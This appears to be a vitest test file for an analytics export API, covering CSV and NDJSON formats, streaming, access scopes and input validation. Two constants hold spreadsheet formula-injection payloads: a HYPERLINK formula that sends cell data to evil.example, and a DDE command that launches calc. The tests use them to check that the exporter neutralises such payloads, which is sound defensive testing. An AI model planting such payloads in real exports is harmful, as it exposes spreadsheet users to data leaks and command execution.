import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  COLUMNS,
  EscalationRowSchema,
  EventRowSchema,
  SessionRowSchema,
} from '../../server/domain/analytics-export'
import { ApiTokenCreatedSchema } from '../../server/domain/api-token'
import { EXPORT_BATCH } from '../../server/services/analytics-export'
import { addStaff, client, makeTestApp, type TestApp } from '../helpers/app'

const EVIL_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
const EVIL_NOTES = '@SUM(1+1)*cmd|" /C calc"!A0'
const MANY = EXPORT_BATCH * 2 + 100

let t: TestApp
let admin: ReturnType<typeof client>
let procedureId: string
let bigSession: string

const asAdmin = (path: string) => admin.get(path)

async function startSession(serial?: string) {
  const res = await client(t.app).post('/api/sessions', {
    procedureId,
    mode: 'inline',
    ...(serial ? { serial } : {}),
  })
  expect(res.status).toBe(201)
  return res.json as { id: string; token: string }
}

async function postEvents(s: { id: string; token: string }, n: number) {
  const http = client(t.app)
  for (let done = 0; done < n; done += 500) {
    const events = Array.from({ length: Math.min(500, n - done) }, (_, i) => ({
      id: crypto.randomUUID(),
      type: 'step_view',
      at: new Date(Date.UTC(2026, 10, 1, 12, 0, 0, done + i)).toISOString(),
      stepId: 'fill',
      data: { n: done + i, note: '-2+3' },
    }))
    const res = await http.post(
      `/api/sessions/${s.id}/events`,
      { events },
      { authorization: `Bearer ${s.token}` },
    )
    expect(res.status).toBe(200)
  }
}

beforeAll(async () => {
  t = await makeTestApp()
  admin = client(t.app)
  expect((await admin.post('/api/auth/login', await addStaff(t, 'admin'))).status).toBe(200)
  const list = await admin.get('/api/studio/procedures')
  procedureId = (list.json as { procedures: { id: string }[] }).procedures[0]?.id ?? ''
  // One session with a hostile serial that asked for help; an agent closed it with hostile notes.
  const evil = await startSession(EVIL_SERIAL)
  await postEvents(evil, 3)
  const help = await client(t.app).post(
    `/api/sessions/${evil.id}/escalation`,
    { stepId: 'fill', timeOnStepMs: 1000, path: ['fill'], mode: 'inline' },
    { authorization: `Bearer ${evil.token}` },
  )
  expect(help.status).toBe(201)
  const escalationId = (help.json as { escalation: { id: string } }).escalation.id
  const agent = client(t.app)
  await agent.post('/api/auth/login', await addStaff(t, 'agent'))
  expect(
    (await agent.post(`/api/agent/escalations/${escalationId}/accept`, {}, agent.csrf())).status,
  ).toBe(200)
  const closed = await agent.post(
    `/api/agent/escalations/${escalationId}/close`,
    { resolution: 'resolved', notes: EVIL_NOTES },
    agent.csrf(),
  )
  expect(closed.status).toBe(200)
  // And one with more events than one batch holds.
  const big = await startSession()
  bigSession = big.id
  await postEvents(big, MANY)
}, 120_000)
afterAll(() => t.close())

const exportUrl = (table: string, query: Record<string, string> = {}) =>
  `/api/studio/analytics/export/${table}?${new URLSearchParams(query)}`

describe('analytics export', () => {
  it('sessions as CSV: a header, one row per session, hostile text neutralised', async () => {
    const res = await asAdmin(exportUrl('sessions', { procedureId }))
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="fixpoint-sessions-.*\.csv"$/,
    )
    const [header, ...rows] = parse(res.text) as string[][]
    expect(header).toEqual(COLUMNS.sessions)
    expect(rows.length).toBe(2)
    const records = parse(res.text, { columns: true }) as Record<string, string>[]
    const evil = records.find((r) => r.serial !== '')
    // The cell reads back as text starting with an apostrophe: no spreadsheet runs it.
    expect(evil?.serial).toBe(`'${EVIL_SERIAL}`)
    expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m)
    expect(records.every((r) => r.procedure_id === procedureId && r.mode === 'inline')).toBe(true)
  })

  it('events as NDJSON: every line parses with the row schema, all of them are there', async () => {
    const res = await asAdmin(exportUrl('events', { format: 'ndjson' }))
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    const lines = res.text.split('\n').filter((l) => l !== '')
    const rows = lines.map((l) => EventRowSchema.parse(JSON.parse(l)))
    expect(rows.length).toBe(MANY + 3)
    expect(new Set(rows.map((r) => r.event_id)).size).toBe(rows.length)
    const mine = rows.filter((r) => r.session_id === bigSession)
    expect(mine.length).toBe(MANY)
    expect(JSON.parse(mine[0]?.data ?? 'null')).toMatchObject({ note: '-2+3' })
  })

  it('streams a large table in batches as the client reads', async () => {
    const res = await t.app.request(exportUrl('events', { format: 'ndjson' }), {
      headers: {
        cookie: Object.entries(admin.cookies())
          .map(([k, v]) => `${k}=${v}`)
          .join('; '),
      },
    })
    const reader = res.body?.getReader()
    if (!reader) throw new Error('no body')
    let chunks = 0
    let text = ''
    const decoder = new TextDecoder()
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      chunks++
      text += decoder.decode(value, { stream: true })
    }
    expect(chunks).toBeGreaterThanOrEqual(Math.ceil((MANY + 3) / EXPORT_BATCH))
    expect(text.split('\n').filter(Boolean).length).toBe(MANY + 3)
  })

  it('escalations as CSV: agent, wait and notes (neutralised); filters by day', async () => {
    const res = await asAdmin(exportUrl('escalations'))
    const [row, ...more] = parse(res.text, { columns: true }) as Record<string, string>[]
    expect(more).toEqual([])
    const parsed = EscalationRowSchema.parse({
      ...row,
      version: Number(row?.version),
      wait_seconds: row?.wait_seconds === '' ? null : Number(row?.wait_seconds),
      accepted_at: row?.accepted_at || null,
      closed_at: row?.closed_at || null,
      resolution: row?.resolution || null,
      agent_email: row?.agent_email || null,
    })
    expect(parsed).toMatchObject({
      status: 'closed',
      resolution: 'resolved',
      agent_email: 'agent@example.com',
      notes: `'${EVIL_NOTES}`,
    })
    const before = await asAdmin(exportUrl('escalations', { to: '2020-01-01' }))
    expect(parse(before.text)).toEqual([COLUMNS.escalations])
    const sessions = await asAdmin(exportUrl('sessions', { format: 'ndjson', procedureId: 'none' }))
    expect(sessions.text).toBe('')
    expect(SessionRowSchema.safeParse({}).success).toBe(false)
  })

  it('is for authors, admins and read:analytics tokens only', async () => {
    const make = async (scopes: string[]) => {
      const res = await admin.post('/api/admin/tokens', { name: 'bi', scopes }, admin.csrf())
      return ApiTokenCreatedSchema.parse(res.json).secret
    }
    const url = exportUrl('sessions')
    const bearer = (s: string) => ({ authorization: `Bearer ${s}` })
    const withAnalytics = await client(t.app).get(url, bearer(await make(['read:analytics'])))
    expect(withAnalytics.status).toBe(200)
    expect(parse(withAnalytics.text)[0]).toEqual(COLUMNS.sessions)
    expect((await client(t.app).get(url, bearer(await make(['read:catalog'])))).status).toBe(403)
    expect((await client(t.app).get(url)).status).toBe(401)
    const author = client(t.app)
    await author.post('/api/auth/login', await addStaff(t, 'author'))
    expect((await author.get(url)).status).toBe(200)
    const agent = client(t.app)
    await agent.post('/api/auth/login', await addStaff(t, 'agent', 'agent2@example.com'))
    expect((await agent.get(url)).status).toBe(403)
  })

  it('refuses unknown tables, formats and reversed ranges with field errors', async () => {
    for (const [url, field] of [
      [exportUrl('users'), 'table'],
      [exportUrl('events', { format: 'xlsx' }), 'format'],
      [exportUrl('events', { from: '2026-02-01', to: '2026-01-01' }), 'from'],
    ] as const) {
      const res = await asAdmin(url)
      expect(res.status).toBe(400)
      expect(Object.keys((res.json as { error: { fields: object } }).error.fields)).toContain(field)
    }
  })
})
